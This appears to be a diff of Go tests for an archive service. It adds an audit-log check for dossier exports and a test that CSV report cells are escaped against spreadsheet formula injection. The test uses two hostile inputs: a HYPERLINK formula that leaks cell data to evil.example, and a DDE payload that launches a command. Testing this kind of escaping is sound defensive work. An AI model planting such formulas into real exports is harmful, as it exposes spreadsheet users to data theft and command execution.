@@ -214,6 +214,14 @@ func TestAIPEndpoints(t *testing.T) {
 	if !bytes.HasPrefix(buf.Bytes(), []byte("PK\x03\x04")) || !bytes.Contains(buf.Bytes(), []byte("HS-1/METS.xml")) {
 		t.Errorf("dossier zip: %d bytes, not a zip of HS-1", buf.Len())
 	}
+	// The dossier's export is in its office's audit log, not in an office-less entry.
+	entries, err = db.AuditLog(ctx, catalog.AuditQuery{Action: catalog.AuditAIPExport, Subject: "HS-1"})
+	if err != nil || len(entries) != 1 || entries[0].OfficeID != "px1" {
+		t.Errorf("audit log of the dossier export: %+v, %v; want one entry of office px1", entries, err)
+	}
+	if seen, err := db.AuditLog(ctx, catalog.AuditQuery{Action: catalog.AuditAIPExport, Offices: []string{"px1"}}); err != nil || len(seen) != 2 {
+		t.Errorf("px1's auditor sees %d exports, %v; want 2", len(seen), err)
+	}
 	for name, tc := range map[string]struct {
 		err    error
 		status int
@@ -226,6 +234,49 @@ func TestAIPEndpoints(t *testing.T) {
 	} {
 		if !isStatus(tc.err, tc.status) {
 			t.Errorf("%s: %v, want %d", name, tc.err, tc.status)
+		}
+	}
+}
+
+// TestReportCSVFormulas: file names and errors that start like a formula
+// (= + - @) are written so that a spreadsheet shows them as text.
+func TestReportCSVFormulas(t *testing.T) {
+	_, db, client := newReportServer(t)
+	ctx := context.Background()
+	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`
+	bad := []catalog.Page{{ID: "d3-p0001", Seq: 1, Status: catalog.PageFailed, Error: "@SUM(1+1)*cmd|' /C calc'!A0"}}
+	if _, err := db.CreateDocument(ctx, catalog.Document{ID: "d3", BatchID: "b1", SourceName: evil}, bad); err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := client("archivist", "px1").ReportCSV(ctx, "b1", &buf); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := func(row []string, name string) string { return row[slices.Index(ReportCSVHeader, name)] }
+	var row []string
+	for _, r := range recs {
+		if r[0] == "d3-p0001" {
+			row = r
+		}
+	}
+	if row == nil {
+		t.Fatal("no row for d3-p0001")
+	}
+	if got := col(row, "source_name"); got != "'"+evil {
+		t.Errorf("source_name = %q, want it quoted as text", got)
+	}
+	if got := col(row, "error"); !strings.HasPrefix(got, "'@") {
+		t.Errorf("error = %q, want it quoted as text", got)
+	}
+	for _, r := range recs[1:] {
+		for i, c := range r {
+			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
+				t.Errorf("row %s, %s = %q starts like a formula", r[0], ReportCSVHeader[i], c)
+			}
 		}
 	}
 }
